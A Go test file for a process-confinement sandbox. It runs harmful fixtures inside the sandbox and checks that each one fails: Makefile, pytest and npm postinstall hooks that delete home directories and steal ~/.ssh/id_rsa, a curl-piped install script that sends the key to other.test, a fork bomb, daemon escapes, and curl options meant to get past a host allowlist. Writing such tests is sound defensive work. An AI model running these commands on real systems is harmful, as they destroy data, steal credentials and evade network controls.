package confine

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
)

// TestHarmfulPrograms holds what ordinary tools can do that run a harmful text: nothing
// outside of the project, and nothing of a secret in it.
func TestHarmfulPrograms(t *testing.T) {
	requireFull(t)
	for name, c := range map[string]struct {
		needs string
		files map[string]string
		line  string
		said  string // in the output, where the tool shows what its text tried
	}{
		"make": {"make", map[string]string{
			"Makefile": "all:\n\t-rm -rf $(HOME)/.ssh $(HOME)/other $(HOME)/.bashrc\n\t-cp $(HOME)/.ssh/id_rsa stolen\n\t-echo owned > .git/hooks/pre-commit\n\t-rm -rf $(HOME)\n"},
			"make; echo ended", "Read-only file system"},
		"pytest": {"pytest", map[string]string{
			"conftest.py": "import os, shutil\nhome = os.path.expanduser('~')\nfor n in ('.ssh', 'other', '.aws'):\n    shutil.rmtree(home + '/' + n, ignore_errors=True)\n" +
				"try:\n    open('stolen', 'w').write(open(home + '/.ssh/id_rsa').read())\nexcept OSError as e:\n    print('refused', e.strerror)\n",
			"test_a.py": "def test_a():\n    assert True\n"},
			"pytest -q -s -p no:cacheprovider", "refused No such file or directory"},
		"npm": {"npm", map[string]string{
			"package.json": `{"name": "app", "version": "1.0.0", "scripts": {"postinstall": "cat ~/.ssh/id_rsa > stolen; curl -sm 2 -d @stolen http://127.0.0.1:PORT; rm -rf ~/other; echo owned >> ~/.bashrc; exit 0"}}`},
			"npm install --offline --no-audit --no-fund --foreground-scripts", "No such file or directory"},
		"git": {"git", map[string]string{"x": ""},
			"git config core.fsmonitor 'cp ~/.ssh/id_rsa stolen'; git -c core.hooksPath=. status >/dev/null 2>&1; printf '#!/bin/sh\\n' > .git/hooks/post-commit; echo ended", "Read-only file system"},
		"unshare": {"unshare", nil, "unshare -Ur cat ~/.ssh/id_rsa; unshare -Um sh -c 'umount -a'; echo ended", "unshare"},
		"bomb":    {"sh", nil, "b() { b | b & }; (b) 2>/dev/null; i=0; while [ $i -lt 300000 ]; do i=$((i+1)); done; echo ended", "ended"},
		"daemon":  {"setsid", nil, "setsid sh -c 'trap \"\" HUP TERM INT; while :; do date +%N >> alive; sleep 0.05; done' & (nohup sh -c 'while :; do date +%N >> alive; sleep 0.05; done' &) & sleep 0.3; echo ended", "ended"},
		"agent":   {"ssh-add", nil, "ssh-add -l", "Could not open a connection"},
		"bus":     {"dbus-send", nil, "dbus-send --session --dest=org.freedesktop.DBus --print-reply / org.freedesktop.DBus.ListNames", "Failed to open connection"},
		"docker":  {"curl", nil, "curl -sSm 2 --unix-socket /var/run/docker.sock http://x/v1/info; curl -sSm 2 --unix-socket $HOME/s http://x/", "curl: (7)"},
		"ptrace":  {"gdb", nil, "gdb -p SIBLING -batch </dev/null", "No such process"},
	} {
		t.Run(name, func(t *testing.T) {
			if _, err := exec.LookPath(c.needs); err != nil {
				t.Skipf("there is no %s here", c.needs)
			}
			s := newScene(t)
			s.surround(t)
			var came atomic.Int32
			server := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { came.Add(1) }))
			defer server.Close()
			for file, text := range c.files {
				text = strings.ReplaceAll(text, "PORT", server.URL[strings.LastIndexByte(server.URL, ':')+1:])
				if err := os.WriteFile(s.at.Project+"/"+file, []byte(text), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			command := s.command(t, "project", "/bin/sh", "-c", strings.ReplaceAll(c.line, "SIBLING", s.sibling(t)))
			command.Profile.Limits.Processes = 200
			command.Env = append(command.Env, "SSH_AUTH_SOCK="+s.at.Home+"/s", "DBUS_SESSION_BUS_ADDRESS=unix:path="+s.at.Home+"/s", "DOCKER_HOST=unix://"+s.at.Home+"/s")
			output, out, err := runs(t, command)
			if err != nil || out.Level != Full || !strings.Contains(output, c.said) {
				t.Errorf("level %s, status %d, %v: %q has nothing of %q", out.Level, out.Status, err, output, c.said)
			}
			if stolen, _ := os.ReadFile(s.at.Project + "/stolen"); len(stolen) > 0 || came.Load() > 0 {
				t.Errorf("it has %q, and %d requests came", stolen, came.Load())
			}
			if name == "daemon" {
				s.still(t)
			}
			s.whole(t)
		})
	}
}

// sibling is the number of the process that surround started.
func (s *scene) sibling(t *testing.T) string {
	t.Helper()
	text, err := os.ReadFile(s.at.Project + "/outside")
	words := strings.Fields(string(text))
	if err != nil || len(words) < 4 {
		t.Fatal(err, words)
	}
	return words[3]
}

// TestFetched holds what a text can do that curl fetches from a listed host and a shell
// runs, and that none of curl's ways to another server than the one it names leads out.
func TestFetched(t *testing.T) {
	requireFull(t)
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("there is no curl here")
	}
	s := newScene(t)
	s.surround(t)
	var came atomic.Int32
	count := http.HandlerFunc(func(http.ResponseWriter, *http.Request) { came.Add(1) })
	other := httptest.NewServer(count)
	defer other.Close()
	port := func(s *httptest.Server) string { return s.URL[strings.LastIndexByte(s.URL, ':')+1:] }
	listed := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/host" {
			fmt.Fprint(w, "host ", r.Host)
			return
		}
		fmt.Fprintf(w, "rm -rf ~/other ~/.ssh; cat ~/.ssh/id_rsa > stolen; echo owned > ~/.bashrc; curl -sm 2 -d @stolen http://other.test:%s; curl -sm 2 --noproxy '*' -d x http://127.0.0.1:%[1]s; echo ran > it\n", port(other))
	}))
	defer listed.Close()
	secure := httptest.NewUnstartedServer(count)
	secure.Config.ErrorLog = nil
	secure.StartTLS()
	defer secure.Close()
	where := "listed.test:" + port(listed)
	tls := "listed.test:" + port(secure)
	loopback := netip.MustParseAddr("127.0.0.1")
	run := func(line string) (string, Outcome) {
		c := s.command(t, "project-net", "/bin/sh", "-c", line)
		c.Profile.Hosts = []string{where, tls, "127.0.0.1:" + port(listed), "127.0.0.1:" + port(secure)}
		c.lookup = func(context.Context, string) ([]netip.Addr, error) { return []netip.Addr{loopback}, nil }
		output, out, err := runs(t, c)
		if err != nil {
			t.Fatal(err)
		}
		return output, out
	}
	if output, out := run("curl -sSf http://" + where + "/install.sh | sh"); !exists(s.at.Project+"/it") || !strings.Contains(fmt.Sprint(out.Refused), "other.test") {
		t.Errorf("%q, refused %v", output, out.Refused)
	}
	if stolen, _ := os.ReadFile(s.at.Project + "/stolen"); len(stolen) > 0 {
		t.Errorf("it has %q", stolen)
	}
	for line, want := range map[string]string{
		"curl -sSkm 5 --resolve other.test:" + port(other) + ":127.0.0.1 http://other.test:" + port(other):                           "refused other.test",
		"curl -sSm 5 --noproxy '*' --resolve " + where + ":127.0.0.1 http://" + where:                                                "curl: (7)",
		"curl -sSkm 5 --connect-to fronted.test:443:" + tls + " https://fronted.test":                                                "refused " + tls,
		"curl -sSm 5 --connect-to other.test:80:" + where + " -p http://other.test -X POST -d x -H 'Host: other.test'":               "refused " + where,
		"curl -sSm 5 -H 'Host: other.test' http://" + where + "/host":                                                                "host " + where + " status 0",
		"curl -sSkm 5 --proxy http://192.0.2.1:3128 https://" + tls:                                                                  "curl: (7)",
		"curl -sSkm 5 --preproxy socks5h://127.0.0.1:1080 https://" + tls:                                                            "curl: (7)",
		"curl -sSm 5 --interface lo --noproxy '*' http://other.test:" + port(other):                                                  "curl: (",
		"curl -sSm 5 --noproxy '*' http://[::ffff:127.0.0.1]:" + port(other) + "; curl -sSm 5 --noproxy '*' http://0:" + port(other): "curl: (7)",
	} {
		output, out := run(line)
		if len(out.Refused) > 0 {
			output += " refused " + out.Refused[0].Host
		}
		output += fmt.Sprint(" status ", out.Status)
		if !strings.Contains(output, want) {
			t.Errorf("%s: %q, want %q", line, output, want)
		}
	}
	if came.Load() > 0 {
		t.Errorf("%d requests came to servers that are not listed", came.Load())
	}
	s.whole(t)
}
